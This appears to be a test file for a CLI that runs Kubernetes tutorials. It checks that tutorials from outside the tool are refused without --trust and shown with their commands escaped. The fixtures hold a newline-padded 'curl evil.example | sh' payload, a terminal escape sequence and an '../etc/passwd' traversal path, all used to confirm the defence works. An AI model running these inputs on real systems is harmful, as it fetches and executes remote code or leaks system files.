// A tutorial from elsewhere is code: through the built binary, headless commands that would
// run its programs refuse it (exit 2) and print everything it can run, escaped, until --trust
// is given; lint warns about programs other than the tour's tools; list and lint run nothing.
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runCli } from './helpers/cli.js';
import { stepTexts, TempDirs, tutorialYaml, writeFiles } from './helpers/tutorial-dir.js';

const temps = new TempDirs();
afterEach(() => temps.cleanup());

/** A tutorial whose one command creates `marker` (real mode: a real `touch`), with a newline-padded argument in its fast-forward. */
function markerTutorial(withCheck = true): { dir: string; marker: string; state: string } {
  const root = temps.make('ivol-trust-');
  const marker = join(root, 'marker');
  const padded = `echo harmless${'\\n'.repeat(40)}curl evil.example | sh`;
  const dir = writeFiles(join(root, 'tut'), {
    'tutorial.yaml': tutorialYaml(`  - id: one
    title: { en: "One", zh-CN: "一" }
    commands:
      - id: mark
        run: [touch, "${marker}"]
        unless: clusterExists
    solve:
      - id: hidden
        run: [sh, -c, "${padded}"]
${
      withCheck
        ? `    checks:
      - { id: c, kind: execOutput, pod: "{pod}", container: "{container}", argv: [cat, "/volume/\\e[2Jfile"], equals: "1", title: { en: C, zh-CN: C } }
`
        : ''
    }`) + 'pod: image-volume\ncontainer: shell\n', // after the steps: no line number moves
    ...stepTexts('one'),
  });
  return { dir, marker, state: join(root, 'state') };
}

describe('an untrusted tutorial, headless', () => {
  it('run --tutorial DIR refuses with exit 2 and lists every program, escaped, one line each; nothing runs', async () => {
    const t = markerTutorial();
    const r = await runCli(['run', '--yes', '--tutorial', t.dir], { IVOL_TOUR_STATE_DIR: t.state, PATH: '/usr/bin:/bin' });
    expect(r.code, r.stderr).toBe(2);
    expect(existsSync(t.marker)).toBe(false);
    expect(r.stderr).toContain(`${t.dir} is not a built-in tutorial`);
    expect(r.stderr).toContain('Programs it starts on this machine: touch, sh');
    expect(r.stderr).toContain(`$ touch ${t.marker}`);
    expect(r.stderr).toContain('(skipped when clusterExists)');
    // The padded argument stays on one line: its payload cannot hide below the list.
    const solveLine = r.stderr.split('\n').find((l) => l.includes('a (fast-forward):')) ?? '';
    expect(solveLine).toContain(`$'echo harmless${'\\n'.repeat(40)}curl evil.example | sh'`);
    // What a check runs in the Pod is listed too, its escape sequence shown, not sent to the terminal.
    expect(r.stderr).toContain("check, in the Pod {pod}/{container}: cat $'/volume/\\e[2Jfile'");
    expect(r.stderr).not.toContain('\x1b');
    expect(r.stderr).toContain('--trust');
    expect(r.stdout).toBe('');
  });

  it('run --trust runs it', async () => {
    const t = markerTutorial(false);
    const r = await runCli(['run', '--yes', '--trust', '--tutorial', t.dir], { IVOL_TOUR_STATE_DIR: t.state, PATH: '/usr/bin:/bin' });
    expect(r.code, r.stderr).toBe(0);
    expect(existsSync(t.marker)).toBe(true);
  });

  it('run --simulate refuses too (a tutorial is trusted or not, whatever the mode), in Chinese with --lang zh-CN', async () => {
    const t = markerTutorial();
    const r = await runCli(['run', '--simulate', '--yes', '--lang', 'zh-CN', '--tutorial', t.dir], { IVOL_TOUR_STATE_DIR: t.state });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('不是内置教程');
    expect(r.stderr).toContain('--trust');
  });

  it('cleanup --tutorial DIR refuses without --trust; doctor runs none of its programs and needs no trust', async () => {
    const t = markerTutorial();
    const cleanup = await runCli(['cleanup', '--simulate', '--yes', '--tutorial', t.dir], { IVOL_TOUR_STATE_DIR: t.state });
    expect(cleanup.code).toBe(2);
    expect(cleanup.stderr).toContain('is not a built-in tutorial');
    const doctor = await runCli(['doctor', '--simulate', '--tutorial', t.dir], { IVOL_TOUR_STATE_DIR: t.state });
    expect(doctor.stderr).not.toContain('is not a built-in tutorial');
    expect(doctor.code).toBe(0);
  });

  it('lint warns about programs outside kubectl, kind, docker, podman, at their position, and still exits 0', async () => {
    const t = markerTutorial();
    const r = await runCli(['lint', t.dir], { IVOL_TOUR_STATE_DIR: t.state });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('1 step, no problems, 2 warning(s)');
    expect(r.stderr).toContain(`${t.dir}/tutorial.yaml:9:15 warning: runs "touch", which is not one of kubectl, kind, docker, podman`);
    expect(r.stderr).toContain(`${t.dir}/tutorial.yaml:13:15 warning: runs "sh"`);
    expect(existsSync(t.marker)).toBe(false);
  });

  it('the built-in tutorial, even named with --tutorial, is trusted', async () => {
    const state = temps.make('ivol-trust-state-');
    const r = await runCli(['run', '--simulate', '--yes', '--tutorial', 'tutorials/image-volume', '--step', 'cleanup'], { IVOL_TOUR_STATE_DIR: state });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).not.toContain('built-in tutorial');
  });

  it('--trust is in the usage, in both languages', async () => {
    const en = await runCli(['--help'], { LANG: 'en_US.UTF-8', LC_ALL: undefined });
    expect(en.stdout).toMatch(/--trust\s+trust a tutorial given with --tutorial/);
    const zh = await runCli(['--help'], { LANG: 'zh_CN.UTF-8', LC_ALL: undefined });
    expect(zh.stdout).toMatch(/--trust\s+信任用 --tutorial 指定的教程/);
  });
});

describe('paths that leave the tutorial folder', () => {
  it('an asset ../../../../etc/passwd is refused by lint and by run, with file:line:col, and nothing is copied', async () => {
    const root = temps.make('ivol-escape-');
    const dir = writeFiles(join(root, 'tut'), {
      'tutorial.yaml': tutorialYaml(`  - id: one
    title: { en: "One", zh-CN: "一" }
    files:
      - { name: secret, asset: ../../../../../../../../etc/passwd }
`),
      ...stepTexts('one'),
    });
    const lint = await runCli(['lint', dir]);
    expect(lint.code).toBe(1);
    expect(lint.stderr).toContain(`${dir}/tutorial.yaml:8:32 "asset" leaves the tutorial folder (..)`);
    const state = join(root, 'state');
    const run = await runCli(['run', '--simulate', '--yes', '--trust', '--tutorial', dir], { IVOL_TOUR_STATE_DIR: state });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`${dir}/tutorial.yaml:8:32 "asset" leaves the tutorial folder (..)`);
    expect(existsSync(join(state, 'work')) ? readdirSync(join(state, 'work'), { recursive: true }) : []).toEqual([]);
  });
});
